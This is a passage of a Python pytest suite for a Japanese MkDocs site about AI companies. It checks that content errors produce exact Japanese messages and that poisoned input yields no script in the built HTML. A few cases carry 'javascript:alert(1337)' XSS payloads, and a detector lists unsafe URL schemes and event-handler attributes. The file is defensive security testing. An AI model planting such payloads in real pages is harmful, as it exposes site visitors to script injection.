            f'ERROR  {T}:{{{{2025-02-30}}}}: 出来事 "openai-response"："date" の "2025-02-30" は暦にない日付である。日付を確かめる（2025年2月は28日まで）。'
        ],
    ),
    Case(
        "unquoted-impossible-date",
        {T: (('date: "2025-02"', "date: 2025-02-30"),)},
        [
            f'ERROR  {T}:{{{{2025-02-30}}}}: 出来事 "openai-response"："date" の "2025-02-30" は暦にない日付である。日付を確かめる（2025年2月は28日まで）。'
        ],
    ),
    # Dates: the advice is the date given, in the form the files take; an unquoted date is read as the date it is.
    Case(
        "date-with-slashes",
        {T: (('date: "2025-02"', 'date: "2025/02/03"'),)},
        [
            f'ERROR  {T}:{{{{2025/02/03}}}}: 出来事 "openai-response"："date" の "2025/02/03" は日付の形になっていない。'
            '"2025-02-03" の形で書く。'
        ],
    ),
    Case(
        "unquoted-date-with-slashes",
        {T: (('date: "2025-02"', "date: 2025/2/3"),)},
        [
            f'ERROR  {T}:{{{{2025/2/3}}}}: 出来事 "openai-response"："date" の "2025/2/3" は日付の形になっていない。'
            '"2025-02-03" の形で書く。'
        ],
    ),
    Case(
        "month-written-in-japanese",
        {T: (('date: "2025-02"', "date: 2025年2月"),)},
        [
            f'ERROR  {T}:{{{{2025年2月}}}}: 出来事 "openai-response"："date" の "2025年2月" は日付の形になっていない。"2025-02" の形で書く。'
        ],
    ),
    Case("unquoted-date-is-accepted", {T: (('date: "2025-02"', "date: 2025-02-03"),)}, []),
    Case(
        "unquoted-date-out-of-order",  # read as the date it is: the order check sees 2025-01-05
        {T: (('date: "2025-02"', "date: 2025-01-05"),)},
        [
            f'ERROR  {T}:{{{{- id: openai-response}}}}: 出来事 "openai-response"（2025-01-05）が "r1-release"（2025-01-20）の後に'
            '書かれているが、日付はそれより前である。"openai-response" を "r1-release" より前に移し、日付の順に並べる。'
        ],
    ),
    Case(
        "events-out-of-order",
        {T: (('date: "2025-02"', 'date: "2025-01-05"'),)},
        [
            f'ERROR  {T}:{{{{- id: openai-response}}}}: 出来事 "openai-response"（2025-01-05）が "r1-release"（2025-01-20）の後に書かれているが、日付はそれより前である。"openai-response" を "r1-release" より前に移し、日付の順に並べる。'
        ],
    ),
    Case(
        "reference-kind-typo",
        {ABOUT: ABOUT_MD + "\n[[trem:llm]]の説明も読む。\n"},
        [f'ERROR  {ABOUT}:{{{{[[trem:llm]]}}}}: [[trem:llm]] の種類 "trem" はない。"term" の書き間違いではないか。{KIND_HINT}'],
    ),
    Case(
        "reference-without-id",
        {ABOUT: ABOUT_MD + "\n[[term:]]の説明も読む。\n"},
        [f"ERROR  {ABOUT}:{{{{[[term:]]}}}}: [[term:]] に id が書かれていない。[[term:id]] の形で、glossary.yml の id を書く。"],
    ),
    Case(
        "reference-with-empty-text",
        {ARTICLE: (("[[term:open-weights]]", "[[term:open-weights|]]"),)},
        [
            f"ERROR  {ARTICLE}:{{{{[[term:open-weights|]]}}}}: [[term:open-weights|]] の「|」の後が空である。表示する文字を書くか、「|」を消す。"
        ],
    ),
    Case(
        "unknown-term-in-an-html-comment",
        {ABOUT: ABOUT_MD + "\n<!-- あとで [[term:lmm]] を足す -->\n"},
        [
            f'ERROR  {ABOUT}:{{{{[[term:lmm]]}}}}: [[term:lmm]] の指す用語がない（glossary.yml に id "lmm" がない）。"llm" の書き間違いではないか。'
        ],
    ),
    Case(
        "page-named-like-the-glossary",
        {"docs/glossary.md": "---\ndescription: 用語集。\n---\n\n# 用語集\n"},
        [
            "ERROR  docs/glossary.md:1: このページは glossary.yml から作られるため、同じ名前のこのファイルは使われない。このファイルを消すか、名前を変える。"
        ],
    ),
    Case(
        "page-named-like-a-company-profile",
        {"docs/companies/openai.md": "---\ndescription: OpenAI。\n---\n\n# OpenAI\n"},
        [
            "ERROR  docs/companies/openai.md:1: このページは docs/data/companies.yml から作られるため、同じ名前のこのファイルは使われない。このファイルを消すか、名前を変える。"
        ],
    ),
    Case(
        "http-source-url",
        {CO: (("url: https://openai.com/about/", "url: http://openai.com/about/"),)},
        [
            f'ERROR  {CO}:{{{{http://openai.com}}}}: 企業 "openai" の出典1："url" の "http://openai.com/about/" は https:// で始まるアドレスではない。"https://openai.com/about/" のように https で書く。'
        ],
    ),
    Case(
        "reading-in-romaji",
        {G: (("reading: おーぷんうぇいと", "reading: oopunweito"),)},
        [
            f'ERROR  {G}:{{{{reading: oopun}}}}: 用語 "open-weights"："reading" の "oopunweito" にかな以外の文字がある。ひらがなかカタカナだけで書く。'
        ],
    ),
    Case(
        "term-relates-to-itself",
        {G: (("related: [llm]", "related: [llm, reasoning-model]"),)},
        [
            f'ERROR  {G}:{{{{related: [llm, reasoning-model]}}}}: 用語 "reasoning-model" が "related" に自分自身を挙げている。"reasoning-model" を消す。'
        ],
    ),
    Case(
        "duplicate-term-id",
        {G: GLOSSARY + UNUSED_TERM.replace("id: distillation", "id: llm")},
        [
            f'ERROR  {G}:{{{{- id: llm@2}}}}: 用語の id "llm" が2回使われている（1回目は glossary.yml:{{{{- id: llm}}}}）。項目ごとに別の id を付ける。'
        ],
    ),
    Case(
        "company-key-typo",
        {CO: (("    headquarters: 米国・サンフランシスコ\n", "    headquarter: 米国・サンフランシスコ\n"),)},
        [
            f'ERROR  {CO}:{{{{headquarter:}}}}: 企業 "openai"：キー "headquarter" は使えない。"headquarters" の書き間違いではないか。使えるキーは {COMPANY_KEYS} である。'
        ],
    ),
    # Writing that is allowed: these build clean.
    Case(
        "mailto-and-http-links-in-page",
        {ABOUT: ABOUT_MD + "\n[メール](mailto:info@example.org)と[古いサイト](http://example.org/old)がある。\n"},
        [],
    ),
    Case(
        "layout-html-in-page",
        {
            ABOUT: ABOUT_MD
            + '\n<details><summary>補足</summary>\n<p><span class="no-autolink">OpenAI</span>の話である。</p>\n</details>\n'
            + '\n<div class="grid" markdown>\n\n**太字**の段落。\n\n</div>\n'
        },
        [],
    ),
    # More slips of the same kinds.
    Case(
        "javascript-image-in-page",
        {ABOUT: ABOUT_MD + "\n![図](javascript:alert(1337))\n"},
        [bad_scheme(ABOUT, "javascript", "javascript:")],
        script=True,
    ),
    Case(
        "raw-anchor-javascript-with-leading-space",
        {ARTICLE: ARTICLE_MD + "\n<a href=' javascript:alert(1337)'>押す</a>\n"},
        [bad_scheme(ARTICLE, "javascript", "<a href")],
        script=True,
    ),
    Case(
        "unknown-event-in-company-role",
        {CO: (("R1を公開した企業である。", "[[event:r1-relese]]でR1を公開した企業である。"),)},
        [
            f'ERROR  {CO}:{{{{[[event:r1-relese]]}}}}: [[event:r1-relese]] の指す出来事がない（docs/data/timeline.yml に id "r1-relese" がない）。"r1-release" の書き間違いではないか。'
        ],
    ),
    Case(
        "unknown-company-in-page",
        {INDEX: (("DeepSeekは推論モデルを公開した。", "[[company:deep-seek]]は推論モデルを公開した。"),)},
        [
            f'ERROR  {INDEX}:{{{{[[company:deep-seek]]}}}}: [[company:deep-seek]] の指す企業がない（docs/data/companies.yml に id "deep-seek" がない）。"deepseek" の書き間違いではないか。'
        ],
    ),
    Case(
        "link-to-a-missing-glossary-entry",
        {ABOUT: ABOUT_MD + "\n[用語](glossary.md#lmm)を引く。\n"},
        [
            f'WARNING  {ABOUT}:{{{{glossary.md#lmm}}}}: リンク "glossary.md#lmm" の "#lmm" は、行き先のページにない見出し（id）である。行き先のページにある見出しの id を使う。'
        ],
    ),
    Case(
        "empty-description",
        {ABOUT: (("description: このサイトについて。", "description:"),)},
        [f"ERROR  {ABOUT}:1: {NO_DESCRIPTION}"],
    ),
    Case(
        "short-with-two-sentences",
        {
            G: (
                (
                    "short: 学習済みの重みを誰でも入手できるように公開することである。",
                    "short: 重みを公開することである。学習データは含まない。",
                ),
            )
        },
        [
            f'ERROR  {G}:{{{{short: 重みを}}}}: 用語 "open-weights"："short" が「。」で終わる1行の1文になっていない。2文目からは長い説明の欄に移す。'
        ],
    ),
    Case(
        "id-with-an-underscore-and-its-reference",  # the id still counts: the page's reference to it is not reported
        {T: TIMELINE + NEW_EVENT, ABOUT: ABOUT_MD + "\n[[event:stock_drop|2月10日]]に株価が下がった。\n"},
        [
            f'ERROR  {T}:{{{{stock_drop}}}}: 出来事 "stock_drop"："id" の "stock_drop" は id に使えない。"stock-drop" のように、半角の英小文字・数字と、その間の1つずつのハイフンだけで書く。'
        ],
    ),
    Case(
        "source-without-publisher",
        {G: (("      - publisher: Example\n        title: Open weights\n", "      - title: Open weights\n"),)},
        [
            f'ERROR  {G}:{{{{- title: Open weights}}}}: 用語 "open-weights" の出典1："publisher" がない。この項目に「publisher: …」を書き足す。'
        ],
    ),
    Case(
        "summary-as-a-list",
        {CO: (("summary: ChatGPTを開発する米国の企業である。", "summary: [ChatGPTを開発する米国の企業である。]"),)},
        [f'ERROR  {CO}:{{{{summary: [}}}}: 企業 "openai"："summary" がリストか「キー: 値」の形になっている。{TEXT_HINT}'],
    ),
    Case("bom-on-mkdocs-yml", {CONFIG: (BOM + mkdocs_yml()).encode("utf-8")}, []),
    Case(
        "crlf-line-endings-in-a-data-file",
        {T: TIMELINE.replace("\n", "\r\n").encode("utf-8")},
        [],
    ),
    Case(
        "unknown-term-after-crlf-lines",
        {T: edit(TIMELINE, ("terms: [reasoning-model]", "terms: [reasoning-modle]")).replace("\n", "\r\n").encode("utf-8")},
        [
            f'ERROR  {T}:{{{{reasoning-modle}}}}: 出来事 "r1-release"："terms" の "reasoning-modle" という用語の id はない。"reasoning-model" の書き間違いではないか。'
        ],
    ),
]


# --- running a case ---------------------------------------------------------------------------

_ENV = {"NO_MKDOCS_2_WARNING": "1"}
_PROBLEMS = re.compile(r"^サイトに直すべき問題がある（(\d+) 件）：$")
_LISTED = re.compile(r"^  [^\s:]+(?::\d+)?: ")  # a problem of the list; other lines continue the one before
_WHERE = re.compile(r"^(?:ERROR|WARNING)  (?P<file>[^\s:]+)(?::(?P<line>\d+))?: ?(?P<message>.*)$", re.S)


class _Capture(logging.Handler):
    """Keeps what the 'mkdocs' loggers print, as the command line would (tracebacks included)."""

    def __init__(self) -> None:
        super().__init__(logging.INFO)
        self.records: list[tuple[str, str]] = []
        self.seen: set[str] = set()
        self.setFormatter(logging.Formatter("%(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        text = self.format(record)
        if record.name == "mkdocs.commands.build":  # the command line drops repeats of these (DuplicateFilter)
            if text in self.seen:
                return
            self.seen.add(text)
        self.records.append((record.levelname, text))


@dataclass
class Built:
    """What one build printed: every record, the problems as `make check` prints them, and whether it passed."""

    records: list[tuple[str, str]]
    passed: bool
    crash: str = ""

    @property
    def output(self) -> str:
        return "\n".join(f"{level:<8}-  {text}" for level, text in self.records) + self.crash

    @property
    def problems(self) -> list[str]:
        """ERROR lines in the order printed, then WARNING lines sorted like `make check` sorts them.

        A message that runs over several lines is kept whole, its lines joined by newlines.
        """
        errors, warnings = [], []
        for level, text in self.records:
            if level == "ERROR":
                head, *rest = text.split("\n")
                if _PROBLEMS.match(head):
                    for line in rest:
                        if _LISTED.match(line) or not errors:
                            errors.append(f"ERROR  {line[2:]}")
                        else:
                            errors[-1] += "\n" + line
                else:
                    errors.append(f"ERROR  {text}")
            elif level in ("WARNING", "CRITICAL"):
                warnings.append(f"WARNING  {text}")
        return errors + sorted(warnings, key=_sort_key)

    @property
    def counted(self) -> int | None:
        """The number of problems the build says it has, or None."""
        for level, text in self.records:
            found = _PROBLEMS.match(text.split("\n")[0]) if level == "ERROR" else None
            if found:
                return int(found.group(1))
        return None


def _sort_key(message: str) -> tuple[str, int, str]:
    """The order of `make check`: by file, line, message."""
    found = _WHERE.match(message)
    return (found.group("file"), int(found.group("line") or 0), found.group("message")) if found else (message, 0, "")


class _TemplateCache(jinja2.BytecodeCache):
    """Compiled theme templates, kept between the builds of this process (a template whose source changes is compiled anew).

    MkDocs makes a new Jinja environment for every build and compiles Material's templates each time,
    which is most of a small build's time; the pages written are the same.
    """

    def __init__(self) -> None:
        self.store: dict[str, bytes] = {}

    def load_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        if bucket.key in self.store:
            bucket.bytecode_from_string(self.store[bucket.key])

    def dump_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        self.store[bucket.key] = bucket.bytecode_to_string()


_TEMPLATES = _TemplateCache()
_THEME_ENV = MkDocsTheme.get_env


def _cached_env(theme: MkDocsTheme) -> jinja2.Environment:
    """The theme's Jinja environment, with the compiled templates of earlier builds."""
    env = _THEME_ENV(theme)
    env.bytecode_cache = _TEMPLATES
    return env


def build_in_process(root: Path) -> Built:
    """`mkdocs build --strict --clean` of the project at root, in this process, as the command line runs it."""
    logger = logging.getLogger("mkdocs")
    capture = _Capture()
    saved = logger.level, logger.propagate
    logger.addHandler(capture)
    logger.setLevel(logging.INFO)
    logger.propagate = False
    passed, crash = False, ""
    old_env = {key: os.environ.get(key) for key in _ENV}
    os.environ.update(_ENV)
    MkDocsTheme.get_env = _cached_env
    try:
        config = load_config(str(root / "mkdocs.yml"), strict=True, site_dir=str(root / "site"))
        config.plugins.on_startup(command="build", dirty=False)
        try:
            mkdocs_build(config)
        finally:
            config.plugins.on_shutdown()
        passed = True
    except (Abort, ConfigurationError) as err:
        capture.records.append(("ABORT", str(err)))
    except Exception:
        crash = "\n" + traceback.format_exc()
    finally:
        MkDocsTheme.get_env = _THEME_ENV
        logger.removeHandler(capture)
        logger.setLevel(saved[0])
        logger.propagate = saved[1]
        for key, value in old_env.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    return Built(capture.records, passed, crash)


def start_check(root: Path) -> subprocess.Popen[str]:  # the caller waits for it (Checks.result, Checks.close)
    """`python -m hooks.check --root root`, started in the background (it runs its own build)."""
    env = {**os.environ, **_ENV, "PYTHONUTF8": "1"}
    env.pop("GITHUB_ACTIONS", None)
    env.pop("SITE_PROBLEMS", None)
    return subprocess.Popen(
        [sys.executable, "-m", "hooks.check", "--root", str(root)],
        cwd=REPO,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def snapshot(root: Path) -> dict[str, bytes]:
    """The bytes of every file of the project except the build's output: the built site and the share cards' cache."""
    return {
        path.relative_to(root).as_posix(): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file() and path.relative_to(root).parts[0] not in ("site", ".cache")
    }


def write_case(root: Path, case: Case) -> Path:
    """The fixture project with the case's changes."""
    write_project(root)
    for rel, content in case.files().items():
        path = root / rel
        if content is None:
            path.unlink()
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return root


# --- what the written HTML may hold -----------------------------------------------------------

# Attributes whose value a browser only shows as text: an escaped payload in a tooltip is harmless. The
# payload may reach no other attribute's value (not even a data-* one that a defused handler leaves).
_INERT_ATTRS = {"title", "alt", "aria-label", "content"}
_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "srcset"}
_UNSAFE_SCHEMES = ("javascript:", "data:", "vbscript:")
_NOISE = re.compile(r"[\x00-\x20\x7f]+")
_SCOPE = re.compile(r'new URL\("[^"]*",location\)')


class _Page(HTMLParser):
    """The scripts, forms, handlers and URLs of one written page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[tuple[tuple[tuple[str, str], ...], str]] = []
        self.faults: list[str] = []
        self.forms: list[tuple[tuple[str, str], ...]] = []
        self._script: list | None = None
        self._rcdata: str | None = None  # inside <title> or <textarea>, a browser reads tags as text

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self._rcdata is not None:
            return
        if tag in ("title", "textarea"):
            self._rcdata = tag
        pairs = tuple((name, value or "") for name, value in attrs)
        for name, value in pairs:
            if name.startswith("on"):
                self.faults.append(f"<{tag}> has the handler {name}={value!r}")
            if name in _URL_ATTRS and _NOISE.sub("", html.unescape(value)).lower().startswith(_UNSAFE_SCHEMES):
                self.faults.append(f"<{tag}> has {name}={value!r}")
            if PAYLOAD in value and (name not in _INERT_ATTRS or (name == "content" and tag != "meta")):
                self.faults.append(f"<{tag}> has the payload in {name}={value!r}")
        if tag in ("iframe", "object", "embed", "frame", "frameset", "applet", "base"):
            self.faults.append(f"a <{tag}> element: {pairs!r}")
        if tag == "meta" and any(name == "http-equiv" and value.lower() == "refresh" for name, value in pairs):
            self.faults.append(f"a <meta http-equiv=refresh>: {pairs!r}")
        if tag == "form":
            self.forms.append(pairs)
        if tag == "script":
            self._script = [pairs, ""]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script[1] += data

    def handle_endtag(self, tag: str) -> None:
        if self._rcdata is not None:
            if tag == self._rcdata:
                self._rcdata = None
            return
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script[0], self._script[1]))
            self._script = None


def _read_page(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8", errors="replace"))
    page.close()
    if page._script is not None:  # a script never closed runs to the end of the page
        page.scripts.append((page._script[0], page._script[1]))
    return page


def _script_kind(attrs: tuple[tuple[str, str], ...], body: str) -> str | None:
    """How a script of the theme is recognised: its config, a file under assets/, or an inline body seen in a clean build."""
    named = dict(attrs)
    if named == {"id": "__config", "type": "application/json"}:
        return "config"
    if set(named) == {"src"} and not body.strip():
        src = named["src"]
        if re.fullmatch(r"(?:\.\./)*(?:/)?assets/[\w./-]+\.js", src):
            return "asset"
        return None
    if not attrs:
        return "inline:" + _SCOPE.sub('new URL("",location)', body)
    return None


@dataclass
class Theme:
    """What the theme writes on every page of a clean build: its inline scripts and its forms."""

    inline: set[str] = field(default_factory=set)
    forms: set[tuple[tuple[str, str], ...]] = field(default_factory=set)


def html_faults(site: Path, theme: Theme) -> list[str]:
    """Everything in the written HTML that no clean build of the fixture holds and that could run code."""
    faults = []
    for path in sorted(site.rglob("*.html")):
        rel = path.relative_to(site).as_posix()
        page = _read_page(path)
        faults += [f"{rel}: {fault}" for fault in page.faults]
        faults += [f"{rel}: a <form> the theme does not write: {form!r}" for form in page.forms if form not in theme.forms]
        for attrs, body in page.scripts:
            kind = _script_kind(attrs, body)
            if kind is None or (kind.startswith("inline:") and kind not in theme.inline):
                faults.append(f"{rel}: a <script> the theme does not write: {attrs!r} {body[:120]!r}")
            elif PAYLOAD in body:
                faults.append(f"{rel}: the payload is inside a <script>: {body[:200]!r}")
    return faults


@pytest.fixture(scope="module")
def theme(tmp_path_factory: pytest.TempPathFactory) -> Theme:
    """Build the clean fixture once: it must pass, and its scripts and forms are the theme's own."""
    root = write_project(tmp_path_factory.mktemp("clean"))
    built = build_in_process(root)
    assert built.passed and built.problems == [], built.output
    learned = Theme()
    for path in (root / "site").rglob("*.html"):
        page = _read_page(path)
        assert page.faults == [], page.faults
        learned.forms.update(page.forms)
        for attrs, body in page.scripts:
            kind = _script_kind(attrs, body)
            assert kind is not None, (attrs, body[:200])
            if kind.startswith("inline:"):
                learned.inline.add(kind)
    assert learned.inline, "the theme writes inline scripts: the check would learn nothing"
    return learned


# What a message quotes as written: values and keys in "…", an engine's or library's own text after 原文:,
# references, tags and paths. The rest is the project's own wording, which is Japanese.
_AS_WRITTEN = re.compile(r'"[^"]*"|（原文: .*?）(?:。|$)|\[\[[^\]]*\]\]|<[^>]*>|[\w./#-]+\.(?:md|yml)\b[\w./#-]*|https?://\S+')
_ENGLISH = re.compile(r"[A-Za-z]+(?: [A-Za-z']+){2,}")  # three or more English words in a row
_JAPANESE = re.compile(r"[\u3040-\u30ff\u4e00-\u9fff]")


def english_in(message: str) -> list[str]:
    """The English in a printed message outside what it quotes as written, or ['(no Japanese)'] when it has no Japanese at all."""
    found = _WHERE.match(message)
    text = _AS_WRITTEN.sub(" ", found.group("message") if found else message)
    return _ENGLISH.findall(text) or ([] if _JAPANESE.search(text) else ["(no Japanese)"])


@pytest.mark.parametrize(
    ("message", "english"),
    [
        (
            "ERROR  glossary.yml:1: the file is empty. Start it with 'terms:' and a list of entries.",
            ["the file is empty", "Start it with 'terms", "and a list of entries"],
        ),
        ("ERROR  glossary.yml:3: ファイルが空である。Start it with the key.", ["Start it with the key"]),
        ("WARNING  docs/a.md:3: Doc file 'a.md' has a link.", ["Doc file ' ' has a link"]),  # a.md is a path: left out
        ("ERROR  mkdocs.yml: OK", ["(no Japanese)"]),
        ('ERROR  glossary.yml:3: 用語 "llm"：キー "Open weights for all" は使えない。使えるキーは id, ja, en である。', []),
        (
            "WARNING  docs/a.md:3: リンク \"b.md\" の行き先のページがない（原文: Doc file 'a.md' contains a link 'b.md'）。直す。",
            [],
        ),
        ("ERROR  docs/a.md:3: ページに HTML の要素 <script> は書けない。[[term:open weights now]] を使う。", []),
    ],
)
def test_english_is_found_outside_what_a_message_quotes(message: str, english: list[str]) -> None:
    """The check of the corpus's messages finds English wording, and leaves alone what a message quotes as written."""
    assert english_in(message) == english


class Checks:
    """`python -m hooks.check` on the tree of each sampled case, a few at a time in the background.

    Each run starts a Python that checks the project, about two seconds; run while the checks of the
    other cases go on, the sample costs little. ``pump`` (called by every test of a case) starts the
    next runs, in the order of the tests, as earlier ones end.
    """

    WIDTH = 2

    def __init__(self, factory: pytest.TempPathFactory, cases: list[Case]) -> None:
        self.factory = factory
        self.pending = list({case.name: case for case in cases if case.check}.values())
        self.roots: dict[str, Path] = {}
        self.before: dict[str, dict[str, bytes]] = {}
        self.running: dict[str, subprocess.Popen[str]] = {}
        self.done: dict[str, tuple[int, str, str]] = {}

    def _start(self, case: Case) -> None:
        root = write_case(self.factory.mktemp(case.name), case)
        self.roots[case.name] = root
        self.before[case.name] = snapshot(root)
        self.running[case.name] = start_check(root)

    def pump(self) -> None:
        """Collect the runs that ended; start the next ones."""
        for name, process in list(self.running.items()):
            if process.poll() is not None:
                out, err = process.communicate()
                self.done[name] = (process.returncode, out, err)
                del self.running[name]
        while self.pending and len(self.running) < self.WIDTH:
            self._start(self.pending.pop(0))

    def root(self, case: Case) -> Path:
        """The tree the check runs on (written, and its run started, now if not yet)."""
        if case.name not in self.roots:
            self.pending.remove(case)
            self._start(case)
        return self.roots[case.name]

    def result(self, case: Case) -> tuple[int, str, str]:
        """The exit code, stdout and stderr of the check of one case, waiting for it to end."""
        if case.name in self.running:
            process = self.running.pop(case.name)
            out, err = process.communicate(timeout=300)
            self.done[case.name] = (process.returncode, out, err)
        self.pump()
        return self.done.pop(case.name)

    def close(self) -> None:
        """End the runs of cases that were not reached (a test stopped with -x, for one)."""
        for process in self.running.values():
            process.kill()
            process.communicate()
        self.running.clear()


@pytest.fixture(scope="module")
def checks(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Checks:
    """The background checks of the sampled cases among the tests that will run."""
    selected = [
        item.callspec.params["case"]
        for item in request.session.items
        if getattr(item, "callspec", None) is not None and isinstance(item.callspec.params.get("case"), Case)
    ]
    pool = Checks(tmp_path_factory, selected)
    request.addfinalizer(pool.close)
    return pool


def test_corpus_size_and_names() -> None:
    """At least 60 mistakes, each with its own name; a handful run through `make check` and a real build, of each sort:
    a data file, a page, its encoding, the nav, a warning only."""
    names = [case.name for case in CASES]
    assert len(names) >= 60
    assert len(set(names)) == len(names)
    sample = [case for case in CASES if case.check]
    assert 4 <= len(sample) <= 6
    assert {G, CONFIG} <= {path for case in sample for path in case.changes}
    assert any(isinstance(change, bytes) for case in sample for change in case.changes.values())
    assert any(case.expected and all(m.startswith("WARNING") for m in case.expected) for case in sample)


def test_placeholders_name_real_lines() -> None:
    """The expected messages of every case expand: each needle stands in the file the message names."""
    for case in CASES:
        for message in case.messages():
            assert "{{" not in message, (case.name, message)


def printed(errors: list, warnings: list) -> list[str]:
    """The problems of hooks.check.check as `make check` prints them."""
    return [f"{'WARNING' if problem.warning else 'ERROR'}  {problem}" for problem in [*errors, *warnings]]


def message_faults(problems: list[str]) -> list[str]:
    """What is wrong with the form of printed messages: a traceback, English wording, a message over several lines."""
    faults = []
    if any("Traceback" in message for message in problems):
        faults.append("a message holds a traceback")
    english = [found for message in problems for found in english_in(message)]
    if english:
        faults.append(f"a message is not in Japanese: {english}")
    if any("\n" in message for message in problems):
        faults.append("a message runs over several lines")
    return faults


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_mistake(case: Case, tmp_path: Path, checks: Checks) -> None:
    """The checks of the strict build (hooks.check.check: data, pages, links, nav; no theme) report exactly the
    expected messages, in Japanese, one line each, and change no input."""
    checks.pump()
    root = write_case(tmp_path, case)
    before = snapshot(root)
    errors, warnings = check(root)
    problems = printed(errors, warnings)
    failures = message_faults(problems)
    if problems != case.messages():
        failures.append("the checks reported other messages than expected")
    after = snapshot(root)
    changed = sorted(path for path in {*before, *after} if before.get(path) != after.get(path))
    if changed or (root / "site").exists():
        failures.append(f"the checks changed input files or wrote a site: {changed}")
    assert not failures, (
        "\n".join(failures) + "\n--- expected:\n  " + "\n  ".join(case.messages()) + "\n--- reported:\n  " + "\n  ".join(problems)
    )


def built_faults(built: Built, root: Path, before: dict[str, bytes]) -> list[str]:
    """What is wrong with a real build of a case: a traceback, a count that is not the list's, changed inputs."""
    faults = []
    if "Traceback" in built.output:
        faults.append("the build printed a traceback")
    errors = sum(message.startswith("ERROR") for message in built.problems)
    if built.counted != (errors or None):
        faults.append(f"the build counted {built.counted} problems but listed {errors} errors")
    after = snapshot(root)
    changed = sorted(path for path in {*before, *after} if before.get(path) != after.get(path))
    if changed:
        faults.append(f"the build changed input files: {changed}")
    return faults


SAMPLE = [case for case in CASES if case.check]


@pytest.mark.parametrize("case", SAMPLE, ids=[case.name for case in SAMPLE])
def test_a_real_build_and_make_check_print_the_same(case: Case, checks: Checks) -> None:
    """Of a handful of cases, the strict build (in this process) and `python -m hooks.check` (a process of its own)
    print exactly the expected messages; the build fails on them and the check exits 1."""
    root = checks.root(case)
    before = checks.before[case.name]
    code, out, err = checks.result(case)
    lines = [line for line in out.splitlines() if line.strip()]
    built = build_in_process(root)
    expected = case.messages()
    failures = built_faults(built, root, before)
    if built.problems != expected:
        failures.append("the build printed other messages than expected:\n  " + "\n  ".join(built.problems))
    if built.passed != (not expected):
        failures.append(f"the strict build {'passed' if built.passed else 'failed'}")
    if "Traceback" in out + err:
        failures.append("`python -m hooks.check` printed a traceback")
    if lines != expected:
        failures.append("`python -m hooks.check` printed other messages:\n  " + "\n  ".join(lines) + f"\n  ({err.strip()})")
    if code != (1 if expected else 0):  # like the strict build, the check fails on warnings too
        failures.append(f"`python -m hooks.check` exited {code}")
    assert not failures, "\n".join(failures) + "\n--- expected:\n  " + "\n  ".join(expected) + f"\n--- output:\n{built.output}"


# The pages of the fixture: a case that changes one is written to a page of its own beside it (about.md's change of
# the case "script-in-page" to docs/about-script-in-page.md), so that the cases of one poisoned build do not meet.
PAGE_FILES = (INDEX, ARTICLE, ABOUT)


def page_copy(path: str, case: Case) -> str:
    """Where a poisoned build writes a case's version of a page."""
    return path.removesuffix(".md") + f"-{case.name}.md"


def poisoned_groups(cases: list[Case]) -> list[list[Case]]:
    """The cases that put a script, a handler or an unsafe URL into the input, in as few builds as can hold them: no two
    cases of a build change the same data file or mkdocs.yml (their pages go to copies of their own)."""
    groups: list[list[Case]] = []
    for case in cases:
        data = {path for path in case.changes if path not in PAGE_FILES}
        free = [
            group for group in groups if not data & {path for other in group for path in other.changes if path not in PAGE_FILES}
        ]
        if free:
            min(free, key=len).append(case)
        else:
            groups.append([case])
    return groups


POISONED = poisoned_groups([case for case in CASES if case.script])


def write_poisoned(root: Path, group: list[Case]) -> list[str]:
    """The fixture project with the changes of every case of a group; returns the URL paths of the case's pages."""
    write_project(root)
    pages = []
    for case in group:
        for rel, content in case.files().items():
            if rel in PAGE_FILES:
                rel = page_copy(rel, case)
                pages.append(rel.removeprefix("docs/").removesuffix(".md") + "/")
            write(root, rel, content)
    return pages


@pytest.mark.parametrize("group", POISONED, ids=[f"{len(group)}-cases-from-{group[0].name}" for group in POISONED])
def test_a_poisoned_build_writes_no_script(group: list[Case], tmp_path: Path, theme: Theme) -> None:
    """The payload cases, a few builds of many cases each: each build prints what the checks report (so the end of
    the build adds nothing), fails if a case expects a message, changes no input, writes every case's page, and no
    payload reaches the written HTML as code."""
    pages = write_poisoned(tmp_path, group)
    before = snapshot(tmp_path)
    errors, warnings = check(tmp_path)
    built = build_in_process(tmp_path)
    failures = built_faults(built, tmp_path, before)
    if built.problems != printed(errors, warnings):
        failures.append("the build printed other messages than the checks report:\n  " + "\n  ".join(printed(errors, warnings)))
    if built.passed != (not any(case.expected for case in group)):
        failures.append(f"the strict build {'passed' if built.passed else 'failed'}")
    written = sorted((tmp_path / "site").rglob("*.html"))
    missing = [page for page in pages if not (tmp_path / "site" / page / "index.html").is_file()]
    if not written or missing:
        failures.append(
            f"the build wrote no page of {missing or 'the site'}, so nothing shows that the payload stays out of the HTML"
        )
    faults = html_faults(tmp_path / "site", theme) if written else []
    if faults:
        failures.append("the written HTML holds code from the input:\n  " + "\n  ".join(faults))
    assert not failures, (
        "\n".join(failures) + "\n--- the build printed:\n  " + "\n  ".join(built.problems) + f"\n--- output:\n{built.output}"
    )
